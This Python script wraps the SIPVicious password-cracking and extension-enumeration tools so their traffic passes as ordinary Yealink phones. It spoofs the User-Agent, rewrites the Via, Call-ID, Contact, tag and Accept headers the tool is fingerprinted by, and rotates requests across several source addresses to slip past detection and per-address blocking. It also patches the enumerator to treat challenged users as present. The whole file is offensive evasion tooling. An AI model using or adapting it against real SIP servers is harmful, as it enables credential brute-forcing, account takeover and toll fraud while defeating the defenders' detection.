"""Runs a tool of sipvicious so that it looks like ordinary phones, at several addresses in turn.

Usage: disguised.py svcrack|svwar ADDRESS[,ADDRESS...] OPTION... TARGET

Nothing that the tool writes by habit is left: its User-Agent, the shapes of branch, Call-ID and
Contact, the tag that never changes, the Accept header, and its own patience.
"""

import importlib
import re
import secrets
import select
import socket
import sys
import zlib

AGENT = "Yealink SIP-T46S 66.86.0.15"
PORT = 5062
# How long it waits for an answer, in seconds.
PATIENCE = 1.0
Socket = socket.socket


def disguise(request, local):
    """A request of the tool as a phone at `local` would write it."""
    host = f"[{local[0]}]" if ":" in local[0] else local[0]
    user = re.search(r"^To: .*<sip:([^@]*)@", request, re.M)[1]
    for header, value in (
        (r"Via: SIP/2.0/UDP \S*?;branch=z9hG4bK-(\d+)",
         lambda found: f"Via: SIP/2.0/UDP {host}:{PORT};branch=z9hG4bK{int(found[1]) * 2654435761:016x}"),
        (r"Call-ID: (\d+)\r", lambda found: f"Call-ID: {zlib.crc32(found[1].encode()):08x}@{host}\r"),
        (r"Contact: [^\r]*", f"Contact: <sip:{user}@{host}:{PORT}>"),
        (r"User-Agent: [^\r]*", f"User-Agent: {AGENT}"),
        (r"Accept: [^\r]*\r\n", "Expires: 300\r\n"),
        (r"tag=3206210844", f"tag={secrets.token_hex(8)}"),
    ):
        request = re.sub(header, value, request)
    return request


class Phones:
    """Sockets in the place of the tool's one: it sends from each in turn, and hears all."""

    addresses = []

    def __init__(self, family, _kind):
        self.family, self.next, self.timeout = family, 0, PATIENCE
        self.heard, self.sockets = select.epoll(), {}

    def bind(self, _address):
        for address in self.addresses:
            phone = Socket(self.family, socket.SOCK_DGRAM)
            phone.bind((address, PORT))
            self.sockets[phone.fileno()] = phone
            self.heard.register(phone, select.EPOLLIN)

    def settimeout(self, seconds):
        self.timeout = min(seconds, PATIENCE)

    def gettimeout(self):
        return self.timeout

    def fileno(self):
        return self.heard.fileno()

    def sendto(self, data, target):
        phone = list(self.sockets.values())[self.next % len(self.sockets)]
        self.next += 1
        phone.sendto(disguise(data.decode(), phone.getsockname()).encode(), target)
        return len(data)

    def recvfrom(self, size):
        ready = self.heard.poll(self.timeout)
        if not ready:
            raise socket.timeout()
        return self.sockets[ready[0][0]].recvfrom(size)


def main():
    tool = importlib.import_module(f"sipvicious.{sys.argv[1]}")
    Phones.addresses = sys.argv[2].split(",")
    sys.argv = [sys.argv[1], *sys.argv[3:]]
    socket.socket = Phones
    if hasattr(tool, "TakeASip"):
        # It goes on where unknown users are challenged as all others are.
        tool.TakeASip.SERVICEUN = tool.TakeASip.AUTHREQ
    tool.main()


main()
